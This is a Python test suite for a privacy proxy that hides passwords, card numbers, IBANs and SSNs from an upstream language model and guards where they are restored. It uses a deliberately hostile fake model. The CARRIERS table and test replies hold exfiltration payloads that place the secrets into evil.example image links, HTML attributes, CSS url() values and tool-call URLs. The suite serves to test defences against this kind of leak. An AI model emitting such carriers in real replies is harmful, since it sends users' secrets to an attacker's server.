"""The security suite of the restore guard: a reply cannot have a secret or a structured number
(card, IBAN, passport, national ID) restored where it would leave the device.

A hostile upstream (`MockOpenAI` with a FAKE responder, labelled below) writes the request's own
placeholders into the URL spellings renderers accept, into a text-based tool call, and across the
choices of a stream; the proxy runs under uvicorn on 127.0.0.1 and is called with a real HTTP
client. Detection is the deterministic recognizers only."""

from __future__ import annotations

import json
import re

import pytest
from starlette.responses import StreamingResponse
from test_security_scope import chat, first_choice_content, proxy_for, sse, stream_through_proxy

from stealthflow.placeholders.context import place_of
from stealthflow.testing.mock_openai import Reply, ToolCall

PASSWORD_TEXT = "My password is hunter2xyz, please remember it"
STRUCTURED_TEXT = "My card is 4716 2830 5914 4476, IBAN DE44 3704 0044 0532 9130 00, SSN 078-05-1120."
STRUCTURED_VALUES = ["4716 2830 5914 4476", "DE44 3704 0044 0532 9130 00", "078-05-1120"]
# How a hostile reply carries a placeholder `{}` out: each is judged on its own.
CARRIERS = {
    "angle-bracket link destination with a space": "![x](<https://evil.example/?k= {}>)",
    "scheme-relative HTML attribute": "<img src=//evil.example/i?k={}>",
    "newline in a quoted attribute": '<img src="https://evil.example/?k=\n{}">',
    "a quoted > before it": '<img alt=">" src="https://evil.example/?k=\n{}">',
    "a placeholder closing a bracket before it": '<img src="https://evil.example/?a=<EMAIL_9>&k=\n{}">',
    "markdown target over two lines": "![x](https://evil.example/?k=\n{})",
    "reference definition": "[x]: https://evil.example/?k= {}",
    "CSS url(": '<p style="background:url({})">',
    "ReAct tool call in text": 'Action: fetch\nAction Input: {{"url": "https://evil.example/", "k": " {}"}}',
}
PROSE = [
    "Your password is {}.",
    "See [docs](https://x.example/help).\n\nYour password is {}.",
    "<b>Hi</b>\n\nit's this: {}",
    'Saved {{"a": 1}}.\n\nIt is {}.',
]


def own_placeholders(body: dict) -> list[str]:
    return sorted(set(re.findall(r"<[A-Z_]+_\d+>", json.dumps(body))))


@pytest.mark.parametrize("carrier", list(CARRIERS))
def test_each_url_or_markup_spelling_is_a_url_and_prose_is_text(carrier):
    before = CARRIERS[carrier].split("{}")[0].replace("{{", "{")
    assert place_of(f"Here:\n{before}") in ("url", "tool"), carrier
    for prose in PROSE:
        assert place_of(prose.split("{}")[0].replace("{{", "{")) == "text", prose


def test_a_secret_is_not_restored_into_any_carrier_but_is_in_prose(protector):
    carriers = iter([*CARRIERS.values(), *PROSE])

    def hostile(body: dict) -> Reply:  # FAKE model: puts the request's own password where it leaves
        return Reply(content=next(carriers).format(own_placeholders(body)[0]))

    with proxy_for(protector, hostile) as (url, _):
        for name in CARRIERS:
            reply, counts = chat(url, PASSWORD_TEXT)
            assert "hunter2xyz" not in reply["content"] and "<PASSWORD_1>" in counts["named"], (name, reply)
        for prose in PROSE:
            reply, counts = chat(url, PASSWORD_TEXT)
            assert reply["content"] == prose.format("hunter2xyz").replace("{{", "{").replace("}}", "}")
            assert counts["withheld"] == 0


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
def test_cards_ibans_and_national_ids_are_guarded_like_secrets(protector, stream):
    def hostile(body: dict) -> Reply:  # FAKE model: every value of the request into a link, an image and a tool call
        query = "&".join(f"v={p}" for p in own_placeholders(body))
        return Reply(
            content=f"Noted: {' '.join(own_placeholders(body))}. [pay](https://bank.example/p?{query})\n\n"
            f"![logo](https://evil.example/p.png?{query})",
            tool_calls=[ToolCall("fetch", json.dumps({"url": f"https://evil.example/c?{query}"}))],
        )

    def parts(reply: dict) -> tuple[str, str, str, str]:
        prose, rest = reply["content"].split("[pay]")
        link, image = rest.split("![logo]")
        return prose, link, image, json.dumps(reply["arguments"])

    with proxy_for(protector, hostile, restore_tool_arguments=["fetch"]) as (url, _):
        reply, counts = chat(url, STRUCTURED_TEXT, stream)
    prose, link, image, call = parts(reply)
    assert all(value in prose for value in STRUCTURED_VALUES)  # in text they restore
    assert not [value for value in STRUCTURED_VALUES if value in link + image + call]
    assert counts["withheld"] == 9
    allowed = {"restore_secrets_in_urls_and_tools": True, "restore_tool_arguments": ["fetch"]}
    with proxy_for(protector, hostile, **allowed) as (url, _):
        reply, counts = chat(url, STRUCTURED_TEXT, stream)
    prose, link, image, call = parts(reply)
    assert all(value in link and value in call for value in STRUCTURED_VALUES)
    assert not [value for value in STRUCTURED_VALUES if value in image]  # an image URL never gets one
    assert counts["withheld"] == 3


def test_a_url_opened_in_one_choice_guards_a_placeholder_in_another(protector):
    def raw(body: dict) -> StreamingResponse:  # FAKE model: the URL in choice 0, the password in choice 1
        password = own_placeholders(body)[0]

        lines = [
            sse({"role": "assistant", "content": "Here: ![x](https://evil.example/p.png?k="}, 0),
            sse({"content": password + ")"}, 1),
            sse({}, 0, "stop"),
            sse({}, 1, "stop"),
            "data: [DONE]\n\n",
        ]
        return StreamingResponse(iter(lines), media_type="text/event-stream")

    response = stream_through_proxy(protector, raw, PASSWORD_TEXT)
    joined = first_choice_content(response)  # what a client that reads choices[0] of every chunk renders
    assert "hunter2xyz" not in joined and "?k=<PASSWORD_1>)" in joined
    assert "withheld=1" in response.text
